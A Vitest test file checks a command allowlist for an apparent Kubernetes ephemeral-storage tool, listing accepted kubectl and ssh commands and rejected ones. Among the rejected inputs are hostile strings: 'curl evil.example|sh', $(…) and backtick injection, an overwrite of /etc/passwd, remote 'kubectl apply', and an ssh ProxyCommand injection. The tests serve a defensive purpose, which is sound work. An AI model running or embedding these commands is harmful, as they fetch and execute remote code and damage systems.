import { expect, it } from 'vitest';

import { isKnownCommand } from '../../../src/commands/text/known-commands.js';
import { verdictLines } from '../../../src/commands/text/verdict-lines.js';

it.each([
  'ephemeral-storage-exporter explain pod shop/cart-0',
  'ephemeral-storage-exporter explain pod shop/cart-0 --directories -c app',
  'ephemeral-storage-exporter explain node node-1 --directories',
  'ephemeral-storage-exporter explain workload shop/deployment/cart',
  'kubectl get nodes',
  'kubectl get pods -A --sort-by=.spec.priority --field-selector spec.nodeName=node-1',
  'kubectl get --raw /api/v1/nodes/node-1/proxy/configz',
  'kubectl describe node node-1',
  'kubectl delete pod -n shop cart-0',
  'kubectl edit -n shop deployment/cart',
  'kubectl logs -n shop deployment/cart -c app --tail=20',
  'kubectl set resources -n shop deployment/cart -c app --limits=ephemeral-storage=2Gi',
  'kubectl set resources -n shop deployment/cart -c app --requests=ephemeral-storage=64Mi --limits=ephemeral-storage=64Mi',
  `kubectl patch -n shop deployment/cart --type=strategic -p '{"spec":{"template":{"spec":{"volumes":[{"name":"data","emptyDir":{"sizeLimit":"2304Mi"}}]}}}}'`,
  `kubectl patch -n shop cronjob/cart --type=strategic -p '{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"volumes":[{"name":"data","emptyDir":{"sizeLimit":"2304Mi"}}]}}}}}}'`,
  `kubectl debug node/node-1 -it --profile=sysadmin --image=busybox -- chroot /host sh -c 'du -xhd3 / /var | sort -h | tail -20'`,
  `ssh node-1 'sudo crictl rmi --prune'`,
  `ssh node-1 'sudo journalctl -u kubelet -n 100 --no-pager'`,
  `ssh node-1 'sudo du -xhd1 '"'"'/var/lib/my data'"'"' | sort -h | tail -20'`,
])('the command %s is printed', (command) => {
  expect(isKnownCommand(command)).toBe(true);
});

it.each([
  'kubectl get pods; curl evil.example|sh',
  'kubectl get pods',
  'kubectl get nodes && curl evil.example',
  'kubectl get nodes > /etc/passwd',
  'kubectl get nodes\ncurl evil.example',
  'kubectl delete pod -n shop $(curl evil.example)',
  'kubectl delete pod -n shop `curl evil.example`',
  'kubectl delete pod -n shop --all',
  'kubectl delete namespace -n shop shop',
  'kubectl get --raw /api/v1/nodes/node-1/proxy/configz --server=https://evil.example',
  'kubectl get --raw /api/v1/nodes/node-1/proxy/run/shop/cart-0/app?cmd=id',
  'kubectl apply -f https://evil.example',
  `kubectl patch -n shop deployment/cart --type=strategic -p '{"spec":{"replicas":0}}'`,
  `kubectl debug node/node-1 -it --profile=sysadmin --image=busybox -- chroot /host sh -c 'curl evil.example | sh'`,
  `ssh node-1 'sudo du -xhd3 /; curl evil.example'`,
  `ssh node-1 'sudo du -xhd3 / | sh'`,
  `ssh node-1 'sudo du -xhd3 /$(curl evil.example)'`,
  `ssh node-1 'curl evil.example'`,
  `ssh -oProxyCommand=evil 'sudo crictl images'`,
  'ephemeral-storage-exporter explain pod shop/cart-0 --server=https://evil.example',
  'curl evil.example',
  '',
])('the command %j, which this program would not print, is left out', (command) => {
  expect(isKnownCommand(command)).toBe(false);
});

it('commands that are left out are counted', () => {
  const commands = ['kubectl get nodes', 'curl evil.example|sh'];
  expect(verdictLines({ text: 'Full.', commands }, 200)).toEqual([
    'Full.',
    '  kubectl get nodes',
    '1 command of the exporter left out: not of a form that this version prints.',
  ]);
});
